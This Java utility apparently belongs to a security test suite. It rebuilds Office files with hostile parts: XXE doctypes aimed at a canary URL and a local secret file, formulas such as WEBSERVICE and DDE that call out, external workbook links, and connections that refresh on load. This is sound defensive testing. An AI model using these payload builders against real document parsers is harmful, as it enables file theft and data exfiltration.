package org.rolecard.hostile;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

/** Office files taken apart, and put together again with parts that lead elsewhere. */
final class OfficeParts {
    private static final String RELATIONS =
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";

    static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private OfficeParts() {}

    /** The parts of a file, by name. */
    static Map<String, String> parts(byte[] file) throws IOException {
        Map<String, String> parts = new TreeMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(file))) {
            for (ZipEntry part = in.getNextEntry(); part != null; part = in.getNextEntry()) {
                parts.put(part.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return parts;
    }

    /** A file of parts. */
    static byte[] packed(Map<String, String> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                out.putNextEntry(new ZipEntry(part.getKey()));
                out.write(part.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        return bytes.toByteArray();
    }

    /** A relation to something elsewhere, added to a part. */
    static void relate(Map<String, String> parts, String relations, String kind, String url) {
        String relation = "<Relationship Id=\"rIdCanary\" Type=\"" + OFFICE + kind + "\" Target=\"" + url
                + "\" TargetMode=\"External\"/></Relationships>";
        String all = parts.getOrDefault(relations, RELATIONS + "</Relationships>");
        parts.put(
                relations,
                all.replaceFirst("<Relationships ([^>]*)/>", "<Relationships $1></Relationships>")
                        .replace("</Relationships>", relation));
    }

    /** Each part in turn begins with a document type that leads elsewhere. */
    static Map<String, String> withType(Map<String, String> parts, String part, String type) {
        Map<String, String> hostile = new TreeMap<>(parts);
        String xml = parts.get(part).replaceFirst("(?s)^\\s*<\\?xml.*?\\?>\\s*", "");
        String root = xml.replaceFirst("(?s)^<([\\w:]+).*", "$1");
        String used = xml.replaceFirst("(?s)</" + root + ">\\s*$", "&e;</" + root + ">");
        hostile.put(part, type.replace("ROOT", root) + (type.contains(" e SYSTEM") ? used : xml));
        return hostile;
    }

    /** Document types that lead to the canary; {@code ROOT} stands for the name of the root. */
    static List<String> types(Canary canary) {
        return List.of(canary.address(), canary.secret().toUri().toString()).stream()
                .flatMap(url -> List.of(
                                "<!DOCTYPE ROOT SYSTEM \"URL\">",
                                "<!DOCTYPE ROOT [<!ENTITY e SYSTEM \"URL\">]>",
                                "<!DOCTYPE ROOT [<!ENTITY % p SYSTEM \"URL\"> %p;]>")
                        .stream()
                        .map(type -> type.replace("URL", url)))
                .toList();
    }

    /** A part of the workbook, declared and led to. */
    static void add(Map<String, String> parts, String kind, String part) {
        parts.merge(
                "[Content_Types].xml",
                "<Override PartName=\"/xl/" + part
                        + "\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml." + kind
                        + "+xml\"/></Types>",
                (all, one) -> all.replace("</Types>", one));
        parts.merge(
                "xl/_rels/workbook.xml.rels",
                "<Relationship Id=\"rIdPart\" Type=\"" + OFFICE + kind + "\" Target=\"" + part + "\"/></Relationships>",
                (all, one) -> all.replace("</Relationships>", one));
    }

    /** Functions that ask somebody, or that a click would. */
    static final List<String> ASKING =
            List.of("_xlfn.WEBSERVICE", "HYPERLINK", "IMAGE", "RTD", "CALL", "INDIRECT", "DDE");

    /** A sheet whose first formula, or all of whose formulas, ask. */
    static Map<String, String> withFormulas(Map<String, String> parts, String function, String url, boolean all) {
        String sheet = parts.get("xl/worksheets/sheet1.xml");
        String formula = "<f>" + function + "(\"" + url + "\")</f>";
        Map<String, String> more = new TreeMap<>(parts);
        more.put(
                "xl/worksheets/sheet1.xml",
                all ? sheet.replaceAll("<f>[^<]*</f>", formula) : sheet.replaceFirst("<f>[^<]*</f>", formula));
        return more;
    }

    /** A workbook that has the values of another one in it. */
    static Map<String, String> withLinkedBook(Map<String, String> parts, String url) {
        Map<String, String> linked = new TreeMap<>(parts);
        linked.put("xl/externalLinks/externalLink1.xml", """
                <externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
                 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
                <externalBook r:id="rIdCanary"><sheetNames><sheetName val="A"/></sheetNames></externalBook>
                </externalLink>""");
        relate(linked, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", url);
        add(linked, "externalLink", "externalLinks/externalLink1.xml");
        linked.merge(
                "xl/workbook.xml",
                "</sheets><externalReferences><externalReference xmlns:r=\""
                        + OFFICE.substring(0, OFFICE.length() - 1)
                        + "\" r:id=\"rIdPart\"/></externalReferences>",
                (all, one) -> all.replace("</sheets>", one));
        return linked;
    }

    /** A workbook that refreshes data from elsewhere when it is opened. */
    static Map<String, String> withConnection(Map<String, String> parts, String url) {
        Map<String, String> connected = new TreeMap<>(parts);
        connected.put(
                "xl/connections.xml",
                "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                        + "<connection id=\"1\" name=\"a\" type=\"4\" refreshedVersion=\"6\" refreshOnLoad=\"1\">"
                        + "<webPr sourceData=\"1\" url=\"" + url + "\"/></connection></connections>");
        add(connected, "connections", "connections.xml");
        return connected;
    }
}
